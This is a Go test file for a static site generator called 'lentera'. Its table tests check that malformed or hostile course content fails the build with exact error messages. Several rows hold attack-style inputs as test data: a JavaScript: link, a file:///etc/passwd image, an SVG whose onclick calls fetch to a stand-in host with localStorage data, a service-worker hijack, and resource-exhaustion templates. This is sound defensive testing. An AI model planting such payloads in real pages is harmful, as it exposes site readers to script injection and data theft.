package main

import (
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"lentera/generator/internal/testsite"
)

// badInput is a change that spoils a good site, and what `lentera build`
// must answer: its exit status and the lines its error output holds
// ({site} and {out} stand for the two folders). A failed build must leave
// the previous output exactly as it was.
type badInput struct {
	name  string
	files map[string]string                    // written over the good site
	setup func(t *testing.T, site, out string) // for what files cannot say: links, FIFOs, big files
	args  []string                             // more flags for build
	code  int                                  // exit status; 1 when 0 and want is set
	want  []string                             // lines of stderr, in this order
	check func(t *testing.T, out string)       // when the build succeeds: what the output holds
}

// goodSite is a small bilingual course that builds cleanly: the base that
// every row spoils.
var goodSite = map[string]string{
	"site.yaml":             "title: Uji\nlanguages: [id, en]\n",
	"content/id/_index.md":  "---\ntitle: Beranda\n---\nSelamat datang. Mulai dari [A](a.md).\n",
	"content/id/a.md":       "---\ntitle: A\nweight: 1\n---\n## Harga pokok\n\nIsi.\n\n::checklist{src=\"cek\"}\n",
	"content/id/b.md":       "---\ntitle: B\nweight: 2\n---\nLihat [harga](a.md#harga-pokok).\n",
	"content/en/a.md":       "---\ntitle: A in English\nweight: 1\n---\n## Cost price\n\nText.\n",
	"content/data/cek.yaml": "kind: checklist\ntitle: Cek\nitems:\n  - text: satu\n  - text: dua\n",
	"content/id/fig/f.svg":  `<svg xmlns="http://www.w3.org/2000/svg"/>`,
	"assets/css/extra.css":  "p{color:#111}\n",
}

var badInputs = []badInput{
	// Settings.
	{name: "site.yaml bad YAML", files: map[string]string{"site.yaml": "title: [Uji\nlanguages: [id]\n"},
		want: []string{"{site}/site.yaml:2: invalid YAML"}},
	{name: "site.yaml unknown key", files: map[string]string{"site.yaml": "title: Uji\nlanguages: [id, en]\nbaseurl: x\n"},
		want: []string{`{site}/site.yaml:3:1: unknown key "baseurl"`}},
	{name: "site.yaml no languages", files: map[string]string{"site.yaml": "title: Uji\n"},
		want: []string{"{site}/site.yaml", "languages"}},
	{name: "unknown language folder", files: map[string]string{"content/es/a.md": "---\ntitle: A\n---\n"},
		want: []string{"{site}/content/es: not a language of this site"}},

	// Front matter.
	{name: "front matter typo", files: map[string]string{"content/id/b.md": "---\ntitle: B\nwieght: 2\n---\n"},
		want: []string{`{site}/content/id/b.md:3:1: unknown key "wieght" in front matter`}},
	{name: "front matter missing title", files: map[string]string{"content/id/b.md": "---\nweight: 2\n---\nIsi.\n"},
		want: []string{"{site}/content/id/b.md", "title"}},
	{name: "front matter missing", files: map[string]string{"content/id/b.md": "Isi tanpa front matter.\n"},
		want: []string{"{site}/content/id/b.md:1", "front matter"}},
	{name: "front matter bad YAML", files: map[string]string{"content/id/b.md": "---\ntitle: [B\n---\n"},
		want: []string{"{site}/content/id/b.md:2", "invalid YAML"}},
	{name: "front matter unclosed", files: map[string]string{"content/id/b.md": "---\ntitle: B\nIsi.\n"},
		want: []string{"{site}/content/id/b.md:1"}},
	{name: "two pages one URL", files: map[string]string{"content/id/a/_index.md": "---\ntitle: Bagian A\n---\n"},
		want: []string{"{site}/content/id/a", "same URL /id/a/"}},
	{name: "two pages one translation key", files: map[string]string{
		"content/en/b.md": "---\ntitle: B\ntranslationKey: a\n---\n",
		"content/en/c.md": "---\ntitle: C\ntranslationKey: a\n---\n"},
		want: []string{"{site}/content/en/", "translation"}},

	// Data files.
	{name: "data bad YAML", files: map[string]string{"content/data/cek.yaml": "kind: checklist\ntitle: [Cek\n"},
		want: []string{"{site}/content/data/cek.yaml:2", "invalid YAML"}},
	{name: "data that fails, embedded in a page", files: map[string]string{
		"content/data/harga.yaml": "kind: table\ntitle: Harga\ncolumns: [a]\nrows: [[b]\n",
		"content/id/b.md":         "---\ntitle: B\n---\n::table{src=\"harga\"}\n"},
		want: []string{"{site}/content/data/harga.yaml:4", "invalid YAML", "build failed with 1 error;"}},
	{name: "data unknown key", files: map[string]string{"content/data/cek.yaml": "kind: checklist\ntitle: Cek\nitems:\n  - text: satu\n    hnit: x\n"},
		want: []string{`{site}/content/data/cek.yaml:5:5: unknown key "hnit" in a checklist item`}},
	{name: "data unknown kind", files: map[string]string{"content/data/cek.yaml": "kind: kuis\ntitle: Cek\n"},
		want: []string{"{site}/content/data/cek.yaml:1", "kuis"}},
	{name: "data calendar ends before it starts", files: map[string]string{"content/data/musim.yaml": "kind: calendar\ntitle: Musim\nevents:\n  - name: x\n    start: 2026-03-10\n    end: 2026-03-01\n"},
		want: []string{"{site}/content/data/musim.yaml:6:10: end 2026-03-01 is before start 2026-03-10"}},
	{name: "data file missing", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n::checklist{src=\"hilang\"}\n"},
		want: []string{`{site}/content/id/b.md:4: ::checklist: no data file "hilang"`}},
	{name: "data of another kind", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n::table{src=\"cek\"}\n"},
		want: []string{"{site}/content/id/b.md:4", "is a checklist, not a table"}},

	// Directives.
	{name: "unknown directive", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n::kuis{src=\"x\"}\n"},
		want: []string{`{site}/content/id/b.md:4: unknown directive "kuis"`}},
	{name: "directive alias for no container", files: map[string]string{"site.yaml": "title: Uji\nlanguages: [id, en]\ndirectives:\n  callout: tipp\n  quiz: tip\n", "content/id/b.md": "---\ntitle: B\n---\n:::kotak\nIsi.\n:::\n"},
		want: []string{`{site}/content/id/b.md:4: unknown directive "kotak" (known: calendar, checklist, plan, quiz, table, exercise, solution, tip, trainer, warning; site.yaml's directives: callout, quiz)`, `{site}/site.yaml:4: directives: callout stands for "tipp", which is not a container`, `{site}/site.yaml:5: directives: "quiz" is a directive already`}},
	{name: "directive alias never closed", files: map[string]string{"site.yaml": "title: Uji\nlanguages: [id, en]\ndirectives: {callout: tip}\n", "content/id/b.md": "---\ntitle: B\n---\n::::: callout\nIsi.\n"},
		want: []string{`{site}/content/id/b.md:4: :::callout is never closed: add a line ::::: after its content`}},
	{name: "directive alias without as", files: map[string]string{"site.yaml": "title: Uji\nlanguages: [id, en]\ndirectives:\n  note: {label: Catatan}\n  2x: tip\n"},
		want: []string{`{site}/site.yaml:4:9: directives.note is missing the required key "as"`, `{site}/site.yaml:5:3: "2x" cannot be a directive name`}},
	{name: "unknown MkDocs box", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\nTeks.\n\n!!! catatan \"Judul\"\n    Isi.\n"},
		want: []string{`{site}/content/id/b.md:6: unknown directive "catatan"`}},
	{name: "directive without src", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n::checklist\n"},
		want: []string{"{site}/content/id/b.md:4", "src"}},
	{name: "container never closed", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n:::tip\nIsi.\n"},
		want: []string{"{site}/content/id/b.md:4", "never closed"}},

	// Links.
	{name: "script and local file links", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n[js](JavaScript:alert(1))\n\n![f](file:///etc/passwd)\n"},
		want: []string{`{site}/content/id/b.md:4: link JavaScript:alert(1): a page links to pages, files and web addresses`, `{site}/content/id/b.md:6: image file:///etc/passwd: a page shows images of the site or the web`}},
	{name: "share image of a local file", files: map[string]string{"site.yaml": "title: Uji\nlanguages: [id, en]\nbaseURL: https://kursus.lentera.test/\n", "content/id/b.md": "---\ntitle: B\nimage: file:///etc/passwd.png\n---\nTeks.\n"},
		want: []string{`{site}/content/id/b.md:3: image "file:///etc/passwd.png": a link preview's picture is a file of the site or a web address`}},
	{name: "heading id given twice", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n## Satu {#x}\n\n## X\n\n## Dua {#x}\n"},
		want: []string{`{site}/content/id/b.md:8: id "x" is given to another heading of this page before`}},
	{name: "dead links of a page that fails", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n[C](c.md)\n\n[D](/id/d/) [A](a.md#tidak-ada)\n"},
		want: []string{`{site}/content/id/b.md:4:5: dead link "c.md"`, `{site}/content/id/b.md:6:5: dead link "/id/d/": nothing is published at /id/d/`, `{site}/content/id/b.md:6:17: dead link "a.md#tidak-ada": /id/a/ has no id`}},
	{name: "dead link", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\nKe [C](c.md).\n"},
		want: []string{`{site}/content/id/b.md:4:8: dead link "c.md"`}},
	{name: "missing image", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n![foto](foto.png)\n"},
		want: []string{`{site}/content/id/b.md:4:9: image: missing file "foto.png"`}},
	{name: "dead fragment in another page", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\nLihat [harga](a.md#harga-pokk).\n"},
		want: []string{`{site}/content/id/b.md:4:15: dead link "a.md#harga-pokk": /id/a/ has no id "harga-pokk" (did you mean #harga-pokok?)`}},
	{name: "dead fragment in the page", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\nKe [atas](#tiada).\n"},
		want: []string{`{site}/content/id/b.md:4:11: dead link "#tiada": /id/b/ has no id "tiada"`}},
	{name: "dead site path", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\nKe [x](/en/x/).\n"},
		want: []string{`{site}/content/id/b.md:4:8: dead link "/en/x/": nothing is published at /en/x/`}},
	{name: "dead site path to a file", files: map[string]string{"content/id/b.md": "---\ntitle: B\n---\n![g](/id/fig/g.svg)\n"},
		want: []string{`dead link "/id/fig/g.svg"`}},
	{name: "every problem at once", files: map[string]string{
		"content/data/cek.yaml": "kind: checklist\ntitle: [Cek\n",
		"content/id/a.md":       "---\ntitle: A\nwieght: 1\n---\n",
		"content/id/b.md":       "---\ntitle: B\n---\nKe [A](a.md), [C](c.md) dan [harga](a.md#tiada).\n"},
		want: []string{
			"{site}/content/data/cek.yaml:2",
			`{site}/content/id/a.md:3:1: unknown key "wieght"`,
			`{site}/content/id/b.md:4:19: dead link "c.md"`,
			"build failed with 3 errors"}},

	// Layouts.
	{name: "layout parse error", files: map[string]string{"layouts/section.html": "{{define \"main\"}}\n<h1>{{.Title}</h1>\n{{end}}\n"},
		want: []string{"{site}/layouts/section.html:2", "bad character"}},
	{name: "layout without main", files: map[string]string{"layouts/chapter.html": "<article>{{ .Title }}</article>\n"},
		want: []string{`{site}/layouts/chapter.html:1: defines no "main" template`}},
	{name: "layout calls an unknown function", files: map[string]string{"layouts/chapter.html": "{{define \"main\"}}{{ frobnicate }}{{end}}\n"},
		want: []string{"{site}/layouts/chapter.html:1", "frobnicate"}},
	{name: "layout counts to billions", files: map[string]string{"layouts/chapter.html": "{{define \"main\"}}{{range seq 10000000000}}x{{end}}{{end}}\n"},
		want: []string{"{site}/layouts/chapter.html:1:", "seq 10000000000: the count must be from 0 to 10000"}},
	{name: "layout that repeats without end", files: map[string]string{
		"site.yaml":            "title: Uji\nlanguages: [id, en]\nlimits: {page: 1MB}\n",
		"layouts/chapter.html": "{{define \"main\"}}{{range seq 10000}}{{range seq 10000}}x{{end}}{{end}}{{end}}\n"},
		want: []string{"{site}/layouts/chapter.html: /id/a/: the page grew past 1MB as it was rendered: a layout repeats something without end, or the page's content (", " of HTML) is more than one page should hold; if it belongs in the site, raise limits.page in site.yaml"}},
	// Pages that would take gigabytes to parse fail before they are.
	{name: "page of too many lines", files: map[string]string{
		"content/id/a.md": "---\ntitle: A\n---\n" + strings.Repeat("a\n\n", 50001)},
		want: []string{"{site}/content/id/a.md:100004: the page has more than 50000 lines of text; one may have at most that: split it into pages"}},
	{name: "page of too much markup", files: map[string]string{
		"content/id/a.md": "---\ntitle: A\n---\n" + strings.Repeat(strings.Repeat("[", 999)+"\n\n", 201)},
		want: []string{"{site}/content/id/a.md:404: the page has more than 200000 markup characters"}},
	{name: "page of a table 10,000 columns wide", files: map[string]string{
		"content/id/a.md": "---\ntitle: A\n---\n" + strings.Repeat("|a", 10000) + "|\n" + strings.Repeat("|-", 10000) + "|\n" + strings.Repeat(strings.Repeat("|a", 10000)+"|\n", 30)},
		want: []string{"{site}/content/id/a.md:23: the page has more than 200000 markup characters"}},
	{name: "page of typographer's dashes", files: map[string]string{
		"content/id/a.md": "---\ntitle: A\n---\n" + strings.Repeat(strings.Repeat("a-- ", 2000)+"\n\n", 120)},
		want: []string{"{site}/content/id/a.md:204: the page has more than 200000 markup characters"}},
	{name: "data file of too many items", files: map[string]string{
		"content/data/cek.yaml": "kind: checklist\ntitle: Cek\nitems:\n" + strings.Repeat("  - {text: satu}\n", 70000)},
		want: []string{"{site}/content/data/cek.yaml:50002: the file has more than 200000 YAML items"}},
	// The built-in layouts repeat only what the content holds: the page
	// is too large, not a layout.
	{name: "page too large for the built-in layouts", files: map[string]string{
		"site.yaml":       "title: Uji\nlanguages: [id, en]\nlimits: {page: 1MB}\n",
		"content/id/a.md": "---\ntitle: A\n---\n" + strings.Repeat("## h\n", 20000)},
		want: []string{"{site}/content/id/a.md: /id/a/: the page grew past 1MB as it was rendered: its text makes ", " of HTML, more than one page should hold: split it into smaller pages, or raise limits.page in site.yaml"}},
	// A workbook gathers many chapters, each within the limit; as it is
	// written to its file while it is made, its limit is 32 pages'.
	{name: "workbook too large for the built-in layouts", files: chapters(
		"title: Uji\nlanguages: [id, en]\nlimits: {page: 64KB}\n", 50, 40<<10),
		want: []string{"{site}/site.yaml: /id/print/: the page grew past 2MB as it was rendered: the pages it gathers make ", " of HTML; raise limits.page"}},
	{name: "layout that loops without writing", files: map[string]string{
		"site.yaml": "title: Uji\nlanguages: [id, en]\nlimits: {pageTime: 300ms}\n",
		// Far too slow for its size limit to stop it; its rare writes end
		// the run left behind, which in this test shares the process.
		"layouts/chapter.html": "{{define \"main\"}}{{range seq 10000}}{{range seq 10000}}{{range seq 10000}}{{end}}x{{end}}{{end}}{{end}}\n"},
		// Every page loops: whichever runs past its time first stops the
		// others, which are not reported.
		want: []string{"{site}/layouts/chapter.html: /id/", "/: the page's layouts ran past 300ms: a layout repeats something without end, or the page's content (", " of HTML) is more than one page should hold; if it belongs in the site, raise limits.pageTime in site.yaml"}},
	{name: "layout ranges over too large a number", files: map[string]string{
		"layouts/chapter.html": "{{define \"main\"}}\n{{with .Title}}{{range add 10000 1}}x{{end}}{{end}}{{end}}\n"},
		want: []string{"{site}/layouts/chapter.html:2:", "range over 10001: a layout's loop counts to 10000 at most"}},
	// Printf pads to a million characters on asking: a UI string of a
	// few kilobytes, which the built-in layouts hand to printf, could
	// ask for gigabytes.
	{name: "UI string pads too wide", files: map[string]string{
		"site.yaml":                    "title: Uji\nlanguages: [id, en]\nplan: {start: \"09:00\", end: \"16:00\"}\n",
		"content/id/b.md":              "---\ntitle: B\nweight: 2\nduration: 30m\n---\nIsi.\n",
		"layouts/i18n/id/trainer.yaml": "plan_day: Hari %01000000d" + strings.Repeat("%01000000d", 1000) + "\n"},
		want: []string{`{site}/layouts/i18n/id/trainer.yaml:1:11: UI string "plan_day" has a width or precision of 1000000, where printf pads to 1000 at most`}},
	{name: "layout doubles a text", files: map[string]string{
		"layouts/chapter.html": "{{define \"main\"}}{{$s := \"xxxxxxxx\"}}{{range seq 40}}{{$s = print $s $s}}{{end}}{{end}}\n"},
		want: []string{"{site}/layouts/chapter.html:1:", "print would make 128MB of text, more than the 64MB a page may hold (limits.page)"}},
	{name: "UI strings bad YAML", files: map[string]string{"layouts/i18n/id/ui.yaml": "search: [Cari\n"},
		want: []string{"{site}/layouts/i18n/id/ui.yaml"}},
	// The layouts are parsed while the pages load, so their error joins
	// those found before the assets are used.

	// Output folders a build must not replace.
	{name: "output is the site", args: []string{"--out", "{site}"},
		want: []string{"the output folder {site} is the site folder"}},
	{name: "output holds the site", args: []string{"--out", "{site}/.."},
		want: []string{"holds the site folder"}},
	{name: "output inside content", args: []string{"--out", "{site}/content/id/public"},
		want: []string{"is inside the site's content/ folder"}},
	{name: "output of someone else's files", setup: func(t *testing.T, site, out string) {
		testsite.Write(t, site, map[string]string{"../mine/keep.txt": "mine"})
	}, args: []string{"--out", "{site}/../mine"},
		want: []string{"is not empty and was not made by lentera"}},

	{name: "file too large to copy, with a page's problem", files: map[string]string{
		"site.yaml":        "title: Uji\nlanguages: [id, en]\nlimits: {file: 1KB}\n",
		"content/id/b.md":  "---\ntitle: B\n---\n[C](c.md)\n",
		"content/id/z.bin": strings.Repeat("z", 2000),
	}, want: []string{"{site}/content/id/b.md:4:5: dead link", "{site}/content/id/z.bin: is 2.0KB, over the limit of 1KB for files"}},

	// Files that would run on the course's site: a stranger's pull
	// request cannot publish a page, a script or an SVG with a script,
	// and every one is reported at once.
	{name: "page, script and SVG with a script in content", files: map[string]string{
		"content/id/fig/peta.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect width=\"4\" height=\"4\" onclick=\"fetch('//x.test/'+localStorage.length)\"/>\n</svg>\n",
		"content/id/sw.js":        "self.onfetch = (e) => e.respondWith(new Response('x'))\n",
		"content/id/Hadiah.HTML":  "<script>navigator.serviceWorker.register('/id/sw.js')</script>\n",
		"content/id/b.md":         "---\ntitle: B\nweight: 2\n---\nAmbil [hadiah](Hadiah.HTML) di ![peta](fig/peta.svg).\n",
	}, want: []string{
		"{site}/content/id/Hadiah.HTML: a .html file runs in the reader's browser as a page or a script of the course's site, so it is published only when site.yaml trusts every author of the course (markup: {unsafe: true})",
		"{site}/content/id/fig/peta.svg:2:3: an event handler (onclick=): a browser runs it when the SVG is opened by itself",
		"{site}/content/id/sw.js: a .js file runs in the reader's browser",
		"build failed with 3 errors", // the link and the image to them are not reported again
	}},
	{name: "page and SVG with a script when every author is trusted", files: map[string]string{
		"site.yaml":            "title: Uji\nlanguages: [id, en]\nmarkup: {unsafe: true}\n",
		"content/id/fig/f.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>",
		"content/id/demo.html": "<p>demo</p>",
	}, check: func(t *testing.T, out string) {
		for _, p := range []string{"id/demo.html", "id/fig/f.svg"} {
			if _, err := os.Stat(filepath.Join(out, p)); err != nil {
				t.Errorf("trusted, %s is not published: %v", p, err)
			}
		}
	}},

	// Files that cannot be read as files.
	{name: "symbolic link in a language folder", setup: func(t *testing.T, site, out string) {
		symlink(t, filepath.Join(site, "..", "elsewhere.md"), filepath.Join(site, "content", "id", "c.md"))
	}, want: []string{"{site}/content/id/c.md: is a symbolic link"}},
}

func TestBadInputs(t *testing.T) {
	for _, tt := range badInputs {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			site, out := filepath.Join(dir, "kursus"), filepath.Join(dir, "public")
			testsite.Write(t, site, goodSite)
			if code, stdout, stderr := runCmd("build", "--site", site, "--out", out); code != 0 {
				t.Fatalf("the good site fails: exit %d\n%s%s", code, stdout, stderr)
			}
			testsite.Write(t, site, tt.files)
			if tt.setup != nil {
				tt.setup(t, site, out)
			}
			// The output, the site and all beside them.
			before := testsite.Hashes(t, dir)
			places := strings.NewReplacer("{site}", site, "{out}", out)
			args := []string{"build", "--site", site, "--out", out}
			for _, a := range tt.args {
				args = append(args, places.Replace(a))
			}
			code, _, stderr := runCmd(args...)
			want := tt.code
			if want == 0 && len(tt.want) > 0 {
				want = 1
			}
			if code != want {
				t.Errorf("exit status %d, want %d\n%s", code, want, stderr)
			}
			rest := stderr
			for _, w := range tt.want {
				w = places.Replace(w)
				i := strings.Index(rest, w)
				if i < 0 {
					t.Errorf("stderr lacks %q (or has it out of order):\n%s", w, stderr)
					continue
				}
				rest = rest[i+len(w):]
			}
			if code != 0 && !maps.Equal(before, testsite.Hashes(t, dir)) {
				t.Errorf("a failed build changed files in %s", dir)
			}
			if code == 0 && tt.check != nil {
				tt.check(t, out)
			}
		})
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// chapters is a site of n chapters in Indonesian, each of about size bytes.
func chapters(config string, n, size int) map[string]string {
	files := map[string]string{"site.yaml": config}
	para := "Kalimat yang cukup panjang untuk mengisi halaman.\n\n"
	for i := range n {
		files[fmt.Sprintf("content/id/b%02d.md", i)] = fmt.Sprintf("---\ntitle: Bab %d\n---\n", i) + strings.Repeat(para, size/len(para))
	}
	return files
}
